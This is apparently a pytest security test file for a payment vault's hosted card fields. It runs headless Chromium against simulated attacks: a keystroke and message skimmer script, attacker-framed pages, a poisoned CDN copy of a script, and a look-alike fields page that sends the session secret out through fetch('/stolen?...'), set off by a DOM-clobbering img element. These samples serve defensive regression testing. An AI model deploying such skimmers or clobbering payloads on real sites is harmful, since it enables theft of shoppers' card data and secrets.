"""Review web36: the hosted card fields attacked from the shopper's browser, in real
headless Chromium (Debian's, through chromium-driver, as the end-to-end test), where the
browser is what enforces the defence:

- a script on the shop's own page (XSS, a compromised third-party script: Magecart)
  that listens to every message, reaches for the iframe's document, listens to keys,
  and hands the fields styles meant to load a URL or read an attribute;
- a page of another origin that frames the fields, or frames the shop's checkout
  with the fields inside it (clickjacking);
- a CDN or cache in front of the capture origin that serves a tampered copy of the
  fields' own script (its answers are ``public, max-age=300``).

The shop and the attacker's site are plain HTTP servers on loopback, of two origins
(``http://localhost:P`` and ``http://127.0.0.1:Q``); the capture listener is real TLS,
and the "CDN" is a TLS reverse proxy with the listener's own certificate (as a CDN
holds the origin's certificate).
"""

from __future__ import annotations

import json
import shutil
import ssl
import tempfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from api.capture import CAPTURE_SCRIPT, asset, sri_hash
from cofre.settings import CaptureSettings
from hsm.provider import HSMProvider
from tests.adapters.test_capture_end_to_end import CHROMEDRIVER, CHROMIUM, STEP_TIMEOUT, _spki_hash
from tests.api.conftest import VaultServer, running_vault
from tests.support.chromium import offline_flags
from tests.support.postgres import free_port
from vault.capture import CaptureSession, CaptureSessionRequest, SessionCodeRule
from vault.service import CallContext

CARD = "4111111111111111"
PAYMENTS = CallContext("spiffe://cofre/payments", "req-web36")
TAMPERED = 'document.documentElement.setAttribute("data-tampered", "ran");\n'


@dataclass
class Site:
    """A loopback HTTP site: `pages` by path, every request it receives in `seen`."""

    host: str
    pages: dict[str, tuple[str, bytes]] = field(default_factory=dict)
    seen: list[str] = field(default_factory=list)
    referers: list[str] = field(default_factory=list)
    port: int = 0
    tls: ssl.SSLContext | None = None
    forward: Callable[[str], tuple[int, list[tuple[str, str]], bytes]] | None = None

    @property
    def url(self) -> str:
        return f"{'https' if self.tls else 'http'}://{self.host}:{self.port}"

    def start(self) -> None:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                site.seen.append(self.path)
                site.referers.append(self.headers.get("referer", ""))
                if site.forward is not None:
                    status, headers, body = site.forward(self.path)
                else:
                    kind, body = site.pages.get(self.path, ("text/plain", b"not found"))
                    status = 200 if self.path in site.pages else 404
                    headers = [("content-type", kind)]
                self.send_response(status)
                for name, value in headers:
                    self.send_header(name, value)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815 - http.server's naming

        self._server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        if self.tls is not None:
            self._server.socket = self.tls.wrap_socket(self._server.socket, server_side=True)
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass
class Stage:
    vault: VaultServer
    shop: Site
    evil: Site
    cdn: Site


def _cdn(vault: VaultServer) -> Site:
    """A TLS reverse proxy in front of the capture listener whose cached copy of the
    fields' script was tampered with (cache poisoning, a compromised edge)."""
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(str(vault.pki.server_cert), str(vault.pki.server_key))
    hop = {"content-length", "connection", "transfer-encoding", "keep-alive", "date"}

    def forward(path: str) -> tuple[int, list[tuple[str, str]], bytes]:
        with vault.capture_client() as client:
            answer = client.get(path)
        body = answer.content
        if path.partition("?")[0] == "/v1/hosted-fields.js":  # any version (session 38)
            body = TAMPERED.encode() + body
        return answer.status_code, [(k, v) for k, v in answer.headers.items() if k not in hop], body

    return Site("localhost", tls=tls, forward=forward)


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory, hsm_provider: HSMProvider) -> Iterator[Stage]:
    shop = Site("localhost", port=free_port())
    evil = Site("127.0.0.1")
    capture = CaptureSettings(port=free_port(), allow_http_localhost=True)
    with running_vault(
        tmp_path_factory.mktemp("web36"), hsm_provider, capture=capture, capture_origins=(shop.url,)
    ) as vault:
        cdn = _cdn(vault)
        for site in (shop, evil, cdn):
            site.start()
        try:
            yield Stage(vault, shop, evil, cdn)
        finally:
            for site in (shop, evil, cdn):
                site.stop()


@pytest.fixture
def browser(stage: Stage) -> Iterator[webdriver.Chrome]:
    if not (CHROMIUM.exists() and CHROMEDRIVER.exists()):
        pytest.fail("headless Chromium and chromium-driver are required", pytrace=False)
    profile = Path(tempfile.mkdtemp(prefix="cofre-chromium-"))
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for flag in (
        *offline_flags(profile),
        f"--ignore-certificate-errors-spki-list={_spki_hash(stage.vault.pki.server_cert)}",
    ):
        options.add_argument(flag)
    driver = webdriver.Chrome(options=options, service=Service(executable_path=str(CHROMEDRIVER)))
    driver.set_page_load_timeout(STEP_TIMEOUT)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


def _session(stage: Stage) -> CaptureSession:
    request = CaptureSessionRequest(
        origin=stage.shop.url,
        formats=("pan_bin6_last4",),
        security_code=SessionCodeRule.FORBIDDEN,
    )
    service = stage.vault.runtime.service
    return service.create_capture_session(PAYMENTS, request, allow_http_localhost=True)


def _fields_url(stage: Stage, session: CaptureSession) -> str:
    return f"{stage.vault.capture_url}/v1/hosted-fields/{session.session_id}"


def _html(body: str) -> tuple[str, bytes]:
    return "text/html; charset=utf-8", f"<!doctype html><html><body>{body}</body></html>".encode()


def _fields_inside(driver: webdriver.Chrome, *frames: str) -> bool:
    """Whether the card inputs rendered inside the frames named by CSS selector, one in
    the other (the browser shows an error page instead of a refused frame)."""
    try:
        for selector in frames:
            frame = WebDriverWait(driver, STEP_TIMEOUT).until(
                lambda d, s=selector: d.find_element(By.CSS_SELECTOR, s)
            )
            WebDriverWait(driver, STEP_TIMEOUT).until(
                lambda d: d.execute_script("return document.readyState") == "complete"
            )
            driver.switch_to.frame(frame)
        WebDriverWait(driver, STEP_TIMEOUT).until(
            lambda d: d.execute_script("return document.readyState") == "complete"
        )
        return bool(driver.find_elements(By.ID, "number"))
    finally:
        driver.switch_to.default_content()


# A skimmer on the shop's own page: it records what a script there can learn.
SKIMMER = """\
(function () {
  "use strict";
  var seen = window.__seen = [];
  function note(kind, value) { seen.push(kind + " " + value); }
  window.addEventListener("message", function (e) {
    note("message", e.origin + " " + JSON.stringify(e.data));
  }, true);
  ["keydown", "keypress", "input", "paste", "copy", "drop"].forEach(function (k) {
    document.addEventListener(k, function (e) { note(k, e.key || e.type); }, true);
  });
  window.addEventListener("error", function (e) { note("error", e.message); });
  window.__reach = function () {
    var frame = document.querySelector("#card iframe");
    note("contentDocument", String(frame.contentDocument));
    try { note("document", frame.contentWindow.document.body.innerHTML); }
    catch (err) { note("document-refused", err.name); }
    try { note("value", frame.contentWindow.document.getElementById("number").value); }
    catch (err) { note("value-refused", err.name); }
  };
}());
"""

CHECKOUT = """\
(function () {
  "use strict";
  var page = document.documentElement;
  var fields = Cofre.mount({
    container: "#card",
    session: page.getAttribute("data-session"),
    secret: page.getAttribute("data-secret"),
    // What a skimmer that controls the page's config hands the fields: loads and reads.
    style: { backgroundColor: "image-set(EVIL/bg 1x)", fontFamily: "attr(value)",
             color: "var(--x, red)", borderColor: "EVIL/x", padding: "env(x, 1px)" },
    onToken: function (card) { page.setAttribute("data-result", "token " + card.masked_pan); },
    onError: function (p) { page.setAttribute("data-result", "error " + p.code); }
  });
  document.getElementById("pay").addEventListener("click", function () { fields.submit(); });
}());
"""


def _skim(stage: Stage, browser: webdriver.Chrome) -> list[str]:
    """Check out on the shop's page with the skimmer on it; what the skimmer saw."""
    session = _session(stage)
    integrity = sri_hash(asset(CAPTURE_SCRIPT))
    capture = stage.vault.capture_url
    stage.shop.pages["/skimmer.js"] = ("text/javascript", SKIMMER.encode())
    stage.shop.pages["/checkout.js"] = (
        "text/javascript",
        CHECKOUT.replace("EVIL", stage.evil.url).encode(),
    )
    stage.shop.pages["/"] = (
        "text/html; charset=utf-8",
        f"""<!doctype html><html data-session="{session.session_id}"
 data-secret="{session.secret}"><body><div id="card"></div>
<button id="pay" type="button">Pay</button>
<script src="/skimmer.js"></script>
<script src="{capture}/v1/capture.js" integrity="{integrity}" crossorigin="anonymous"></script>
<script src="/checkout.js"></script></body></html>""".encode(),
    )
    evil_before = len(stage.evil.seen)
    browser.get(stage.shop.url + "/")
    assert _fields_inside(browser, "#card iframe")
    frame = browser.find_element(By.CSS_SELECTOR, "#card iframe")
    browser.switch_to.frame(frame)
    for name, value in {"number": CARD, "expiry": "12/30", "name": "Ana Souza"}.items():
        browser.find_element(By.ID, name).send_keys(value)
    browser.switch_to.default_content()
    browser.execute_script("window.__reach()")
    browser.find_element(By.ID, "pay").click()
    result = WebDriverWait(browser, STEP_TIMEOUT).until(
        lambda d: d.find_element(By.TAG_NAME, "html").get_attribute("data-result")
    )
    assert result == "token 411111******1111"
    assert stage.evil.seen[evil_before:] == []  # no style made the fields load a URL
    return list(browser.execute_script("return window.__seen"))


def _messages(seen: list[str]) -> list[dict[str, Any]]:
    return [json.loads(s.split(" ", 2)[2]) for s in seen if s.startswith("message ")]


def test_a_skimmer_on_the_shops_page_learns_no_card_digit(
    stage: Stage, browser: webdriver.Chrome
) -> None:
    """Held: a script on the embedding page sees the token and the masked number
    (BIN and last four), no keystroke, no message with the card, no access to the
    iframe's document, and styles cannot make the fields load anything."""
    seen = _skim(stage, browser)
    text = json.dumps(seen)
    assert CARD not in text
    assert "111111111" not in text  # no run of the hidden digits either
    assert not [s for s in seen if s.split(" ")[0] in {"keydown", "keypress", "input"}]
    assert "contentDocument null" in seen
    assert "document-refused SecurityError" in seen
    assert "value-refused SecurityError" in seen
    # The messages the page saw: ready, change (a boolean) and the token, nothing else.
    assert {m["type"] for m in _messages(seen)} == {"ready", "change", "token"}


def test_the_shops_page_is_not_told_each_keystroke(stage: Stage, browser: webdriver.Chrome) -> None:
    """Low (fixed, review web36). The fields told their parent ``change`` at every
    input event, 29 messages for a number, an expiry and a name: a script on the page
    learnt how many characters the shopper typed, and when (the number's length, so
    its brand; keystroke timing, a known side channel on digits). They now tell it
    only when ``complete`` changes, which is all `onChange` says."""
    seen = _skim(stage, browser)
    changes = [m["complete"] for m in _messages(seen) if m["type"] == "change"]
    assert changes == [False, True]


def test_a_page_of_another_origin_cannot_frame_the_fields(
    stage: Stage, browser: webdriver.Chrome
) -> None:
    """Held: the fields' CSP `frame-ancestors` names the session's origin alone."""
    session = _session(stage)
    stage.evil.pages["/frame"] = _html(f'<iframe id="f" src="{_fields_url(stage, session)}">')
    browser.get(stage.evil.url + "/frame")
    assert not _fields_inside(browser, "#f")


def test_a_page_of_another_origin_cannot_frame_the_checkout_with_the_fields(
    stage: Stage, browser: webdriver.Chrome
) -> None:
    """Held: the shop's checkout framed by an attacker's page (the shop sent no
    frame-ancestors of its own) shows no fields: the browser checks every ancestor."""
    session = _session(stage)
    stage.shop.pages["/plain"] = _html(f'<iframe id="g" src="{_fields_url(stage, session)}">')
    stage.evil.pages["/double"] = _html(f'<iframe id="f" src="{stage.shop.url}/plain">')
    browser.get(stage.shop.url + "/plain")
    assert _fields_inside(browser, "#g")  # the shop itself may
    browser.get(stage.evil.url + "/double")
    assert not _fields_inside(browser, "#f", "#g")


def test_a_page_that_opens_the_fields_in_a_window_gets_no_capture(
    stage: Stage, browser: webdriver.Chrome
) -> None:
    """Held: the fields opened top-level (a stolen session id, a phishing window) get
    no secret from anyone (only the session's origin as their parent may send it), so
    a card typed there goes nowhere; and the window is cut from its opener (COOP)."""
    session = _session(stage)
    stage.evil.pages["/open"] = _html("<p>x</p>")
    browser.get(stage.evil.url + "/open")
    opened = browser.execute_script(
        "var w = window.open(arguments[0]); window.__w = w; return w !== null;",
        _fields_url(stage, session),
    )
    assert opened
    first = browser.current_window_handle
    WebDriverWait(browser, STEP_TIMEOUT).until(lambda d: len(d.window_handles) == 2)
    browser.switch_to.window(next(h for h in browser.window_handles if h != first))
    WebDriverWait(browser, STEP_TIMEOUT).until(lambda d: d.find_elements(By.ID, "number"))
    assert browser.execute_script("return window.opener") is None
    browser.find_element(By.ID, "number").send_keys(CARD)
    browser.find_element(By.ID, "expiry").send_keys("12/30\n")
    browser.close()
    browser.switch_to.window(first)
    # The opener still holds a closed handle, never the fields' window.
    assert browser.execute_script("return window.__w.closed") is True
    with stage.vault.runtime.engine.connect() as connection:
        uses = connection.execute(
            sa.text("SELECT uses FROM capture_sessions WHERE id = :s"), {"s": session.session_id}
        ).scalar_one()
    assert uses == 0


def test_a_tampered_copy_of_the_fields_script_does_not_run(
    stage: Stage, browser: webdriver.Chrome
) -> None:
    """Low (fixed, review web36). The fields' page loaded its own script and style
    without Subresource Integrity. Both are cacheable (``public, max-age=300``): a
    cache or CDN in front of the capture origin that served a poisoned copy of
    ``/v1/hosted-fields.js`` ran it inside the payment page, where it reads every
    keystroke. The page is never cached (``no-store``); it now names the hash of the
    script and the style it was built with, and the browser refuses another copy."""
    session = _session(stage)
    with httpx.Client(verify=ssl.create_default_context(cafile=str(stage.vault.pki.ca))) as client:
        assert TAMPERED.encode() in client.get(stage.cdn.url + "/v1/hosted-fields.js").content
    browser.get(f"{stage.cdn.url}/v1/hosted-fields/{session.session_id}")
    WebDriverWait(browser, STEP_TIMEOUT).until(lambda d: d.find_elements(By.ID, "number"))
    WebDriverWait(browser, STEP_TIMEOUT).until(
        lambda d: d.execute_script("return document.readyState") == "complete"
    )
    fetched = [p for p in stage.cdn.seen if p.partition("?")[0] == "/v1/hosted-fields.js"]
    assert fetched  # fetched, then judged
    # Held: the page's own loads name no Referer (its URL holds the session id).
    assert [r for r in stage.cdn.referers if r] == []
    assert browser.find_element(By.TAG_NAME, "html").get_attribute("data-tampered") is None


FAKE_FIELDS = """<!doctype html><html><body><input id="number">
<script>
window.addEventListener("message", function (e) {
  if (e.data && e.data.type === "init") { fetch("/stolen?" + encodeURIComponent(e.data.secret)); }
});
parent.postMessage({cofre: 1, type: "ready"}, "*");
</script></body></html>"""


def test_markup_on_the_shops_page_cannot_point_the_fields_elsewhere(
    stage: Stage, browser: webdriver.Chrome
) -> None:
    """Medium (fixed, review web36). `capture.js` took the capture origin from
    ``document.currentScript.src``, and an element with ``name="currentScript"`` on
    the page replaces that property of ``document`` (DOM clobbering, as webpack's
    CVE-2024-43788). So markup alone, no script (a review, a profile name, anything a
    sanitizer lets through with ``name`` and ``src``), placed before the script tag,
    made `Cofre.mount` frame the attacker's look-alike fields, hand them the session's
    secret and take their "token": the shopper typed the card into the attacker's page.
    A shop CSP with ``frame-src`` (docs/capture.md) blocks the frame; without one
    nothing did. `capture.js` now reads the property through `Document.prototype` and
    takes only a script element."""
    session = _session(stage)
    stage.evil.pages[f"/v1/hosted-fields/{session.session_id}"] = (
        "text/html; charset=utf-8",
        FAKE_FIELDS.encode(),
    )
    integrity = sri_hash(asset(CAPTURE_SCRIPT))
    capture = stage.vault.capture_url
    stage.shop.pages["/mount.js"] = (
        "text/javascript",
        b"""Cofre.mount({container: "#card",
  session: document.documentElement.getAttribute("data-session"),
  secret: document.documentElement.getAttribute("data-secret")});""",
    )
    stage.shop.pages["/clobbered"] = (
        "text/html; charset=utf-8",
        f"""<!doctype html><html data-session="{session.session_id}"
 data-secret="{session.secret}"><body><div id="card"></div>
<p>A review: <img name="currentScript" src="{stage.evil.url}/v1/capture.js" alt=""></p>
<script src="{capture}/v1/capture.js" integrity="{integrity}" crossorigin="anonymous"></script>
<script src="/mount.js"></script></body></html>""".encode(),
    )
    browser.get(stage.shop.url + "/clobbered")
    frame = WebDriverWait(browser, STEP_TIMEOUT).until(
        lambda d: d.find_element(By.CSS_SELECTOR, "#card iframe")
    )
    assert str(frame.get_attribute("src")).startswith(f"{capture}/v1/hosted-fields/")
    assert _fields_inside(browser, "#card iframe")
    assert not [path for path in stage.evil.seen if "hosted-fields" in path or "stolen" in path]
